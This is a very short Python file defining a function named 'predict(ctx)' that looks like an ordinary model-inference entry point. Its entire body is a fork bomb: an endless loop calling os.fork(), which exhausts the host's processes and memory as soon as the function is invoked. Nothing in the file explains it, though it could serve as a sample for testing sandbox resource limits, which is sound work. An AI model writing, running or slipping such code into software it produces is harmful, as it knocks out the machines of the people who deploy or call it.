import os


def predict(ctx):
    while True:
        os.fork()
